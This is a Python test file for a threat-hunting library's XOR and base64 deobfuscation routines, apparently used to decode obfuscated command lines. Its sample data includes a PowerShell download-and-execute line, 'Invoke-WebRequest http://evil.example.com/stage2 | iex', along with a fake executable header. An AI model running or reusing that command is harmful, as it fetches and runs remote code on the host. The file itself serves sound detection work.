"""Masks of one byte."""

import base64

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from huntkit.extract import decode
from huntkit.extract.xor_bytes import unmasked

SAYS = b"Invoke-WebRequest http://evil.example.com/stage2 | iex"
PROGRAM = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run" + bytes(range(128, 250))


def masked(data: bytes, key: int) -> bytes:
    return bytes(value ^ key for value in data)


@pytest.mark.parametrize("key", [1, 0x20, 0x41, 0x7F, 0x80, 0xFF])
def test_the_key_is_found(key):
    assert unmasked(masked(SAYS, key)) == (key, SAYS)
    assert unmasked(masked(PROGRAM, key)) == (key, PROGRAM)


def test_random_bytes_have_no_key():
    import random

    chance = random.Random(1)
    assert all(unmasked(chance.randbytes(size))[0] == 0 for size in range(16, 3_000, 7))


def test_masked_content_is_decoded_only_where_it_is_asked_for():
    run = base64.b64encode(masked(SAYS, 0x5A)).decode()
    frame = pl.DataFrame({"cmd": [f"x {run}"]})
    assert decode(frame, "cmd").height == 0
    row = decode(frame, "cmd", xor=True).row(0, named=True)
    assert (row["Encoding"], row["Decoded"]) == ("base64 > xor 0x5a > utf-8", SAYS.decode())
    assert [step["encoding"] for step in row["steps"]] == ["base64", "xor 0x5a"]
    assert row["Announced"]


@given(st.binary(max_size=300), st.booleans())
def test_no_bytes_make_it_fail(data, sure):
    key, plain = unmasked(data, sure=sure)
    assert masked(plain, key) == data or key == 0
